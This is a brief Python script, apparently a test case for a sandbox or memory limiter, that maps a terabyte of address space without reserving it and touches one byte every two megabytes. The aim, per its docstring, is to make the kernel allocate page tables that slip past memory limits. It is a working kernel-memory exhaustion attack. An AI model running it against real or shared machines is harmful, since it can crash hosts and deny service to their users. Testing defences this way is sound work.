"""One byte in every two megabytes: hardly any memory of its own, but the kernel needs a page of tables for each."""

import mmap

from attacker import once

once()
SIZE = 1 << 40
MAP_PRIVATE, MAP_ANONYMOUS, MAP_NORESERVE = 0x02, 0x20, 0x4000
held = mmap.mmap(-1, SIZE, flags=MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE)
for at in range(0, SIZE, 2 << 20):
    held[at]
    held[at] = 1
